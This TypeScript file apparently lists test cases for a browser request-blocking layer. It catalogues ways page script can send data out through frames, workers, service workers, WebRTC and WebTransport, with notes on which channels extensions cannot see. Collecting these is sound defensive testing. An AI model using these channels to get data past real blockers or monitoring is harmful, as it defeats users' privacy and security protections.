import type { Channel } from './channel';

/** Realms that no page script of ours was in before the page: frames, windows, workers. */
export const REALMS: readonly Channel[] = [
  { name: 'frame-src', layer: 'L0', code: `frame({ src: out('frame-src') }, false)` },
  {
    name: 'frame-srcdoc',
    layer: 'L0',
    code: `frame({ srcdoc: '<img src="' + out('frame-srcdoc', '.gif') + '">' }, false)`,
  },
  {
    name: 'frame-data',
    layer: 'L0',
    code: `frame({ src: 'data:text/html,<img src="' + out('frame-data', '.gif') + '">' }, false)`,
  },
  {
    name: 'frame-blob',
    layer: 'L0',
    code: `frame({ src: URL.createObjectURL(new Blob(['<img src="' + out('frame-blob', '.gif') + '">'], { type: 'text/html' })) }, false)`,
  },
  {
    name: 'frame-javascript',
    layer: 'L0',
    code: `frame({ src: 'javascript:fetch("' + out('frame-javascript') + '", { mode: "no-cors" })' }, false)`,
  },
  {
    name: 'frame-sandboxed',
    layer: 'L0',
    code: `frame({ sandbox: 'allow-scripts', srcdoc: '<script>fetch("' + out('frame-sandboxed') + '", { mode: "no-cors" })<' + '/script>' }, false)`,
  },
  {
    name: 'frame-sandboxed-top',
    layer: 'L0',
    alone: true,
    code: `frame({ sandbox: 'allow-scripts allow-top-navigation', srcdoc: '<script>top.location = "' + out('frame-sandboxed-top') + '"<' + '/script>' }, false)`,
    openIn: ['chromium', 'firefox'],
    title: 'A sandboxed frame that moves the page away',
    reason: 'A sandboxed frame names nobody as initiator, so no rule can tell its navigation from a typed address.',
  },
  {
    name: 'frame-sandboxed-popup',
    layer: 'L0',
    alone: true,
    code: `frame({ sandbox: 'allow-scripts allow-popups', srcdoc: '<script>open("' + out('frame-sandboxed-popup') + '")<' + '/script>' }, false)`,
  },
  { name: 'pristine-fetch', layer: 'L0', code: `pristine.fetch(out('pristine-fetch'), { mode: 'no-cors' })` },
  {
    name: 'pristine-new-frame',
    layer: 'L0',
    code: `frame({}, false).then((f) => f.contentWindow.fetch(out('pristine-new-frame'), { mode: 'no-cors' }))`,
  },
  {
    name: 'pristine-own-page',
    layer: 'L0',
    code: `frame({ src: '/page?inner' }).then((f) => f.contentWindow.fetch(out('pristine-own-page'), { mode: 'no-cors' }))`,
  },
  { name: 'worker', layer: 'L0', code: `new Worker('/worker.js').postMessage([out('worker'), { mode: 'no-cors' }])` },
  {
    name: 'worker-blob',
    layer: 'L0',
    code: `new Worker(URL.createObjectURL(new Blob(['fetch("' + out('worker-blob') + '", { mode: "no-cors" })'])))`,
  },
  {
    name: 'worker-import',
    layer: 'L0',
    code: `new Worker(URL.createObjectURL(new Blob(['importScripts("' + out('worker-import', '.js') + '")'])))`,
  },
  {
    name: 'worker-websocket',
    layer: 'L0',
    code: `new Worker(URL.createObjectURL(new Blob(['new WebSocket("' + out('worker-websocket').replace('http', 'ws') + '")'])))`,
  },
  {
    name: 'shared-worker',
    layer: 'L0',
    code: `{ const w = new SharedWorker('/shared.js'); w.port.start(); w.port.postMessage([out('shared-worker'), { mode: 'no-cors' }]); }`,
  },
  {
    name: 'service-worker',
    layer: 'L0',
    code: `navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => r.active.postMessage([out('service-worker'), { mode: 'no-cors' }]))`,
  },
  {
    name: 'service-worker-carry',
    layer: 'L0',
    code: `navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() => wait(150)).then(() => fetch('/api/x?carry=' + encodeURIComponent(out('service-worker-carry'))))`,
  },
  {
    name: 'background-fetch',
    layer: 'L0',
    code: `navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => r.backgroundFetch.fetch('x', [out('background-fetch')]))`,
    missingIn: ['firefox', 'chromium'],
  },
  {
    name: 'broadcast-other-tab',
    layer: 'L0',
    alone: true,
    query: 'other-tab',
    code: `new BroadcastChannel('carry').postMessage(out('broadcast-other-tab'))`,
  },
  {
    name: 'webrtc-stun',
    layer: 'none',
    alone: true,
    isSlow: true,
    code: `{ const p = new pristine.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + ports.stun }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); }`,
    title: 'WebRTC from a realm that the page kept',
    reason: 'WebRTC traffic is no request; browsers let extensions neither see nor stop it.',
  },
  {
    name: 'webtransport',
    layer: 'L3',
    alone: true,
    isSlow: true,
    code: `new WebTransport('https://127.0.0.1:' + ports.quic + '/hit/webtransport').ready.catch(() => 0)`,
  },
  {
    name: 'pristine-blob',
    layer: 'L0',
    code: `{ const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['x'], { type: 'text/html' })); document.body.append(f); f.onload = () => f.contentWindow.fetch(out('pristine-blob'), { mode: 'no-cors' }); }`,
  },
  {
    name: 'pristine-srcdoc',
    layer: 'L0',
    code: `frame({ srcdoc: 'x' }, false).then((f) => f.contentWindow.fetch(out('pristine-srcdoc'), { mode: 'no-cors' }))`,
  },
  {
    name: 'pristine-javascript',
    layer: 'L0',
    code: `frame({ src: 'javascript:0' }, false).then((f) => f.contentWindow.fetch(out('pristine-javascript'), { mode: 'no-cors' }))`,
  },
  {
    name: 'pristine-sandboxed',
    layer: 'L0',
    code: `frame({ sandbox: 'allow-scripts allow-same-origin', srcdoc: 'x' }).then((f) => f.contentWindow.fetch(out('pristine-sandboxed'), { mode: 'no-cors' }))`,
  },
  {
    name: 'pristine-nested',
    layer: 'L0',
    code: `frame({ srcdoc: '<iframe srcdoc=x></iframe>' }).then((f) => wait(100).then(() => f.contentWindow[0].fetch(out('pristine-nested'), { mode: 'no-cors' })))`,
  },
  {
    name: 'pristine-object',
    layer: 'L0',
    code: `{ const o = document.createElement('object'); o.data = '/page?object'; o.onload = () => o.contentWindow.fetch(out('pristine-object'), { mode: 'no-cors' }); document.body.append(o); }`,
  },
  {
    name: 'worker-nested',
    layer: 'L0',
    code: `new Worker(URL.createObjectURL(new Blob(['new Worker(URL.createObjectURL(new Blob(["fetch(\\"' + out('worker-nested') + '\\", { mode: \\"no-cors\\" })"])))'])))`,
  },
  {
    name: 'worker-event-source',
    layer: 'L0',
    code: `new Worker(URL.createObjectURL(new Blob(['new EventSource("' + out('worker-event-source', '/stream') + '")'])))`,
  },
  {
    name: 'worker-module',
    layer: 'L0',
    code: `new Worker(URL.createObjectURL(new Blob(['import("' + out('worker-module', '.js') + '")'])), { type: 'module' })`,
  },
];
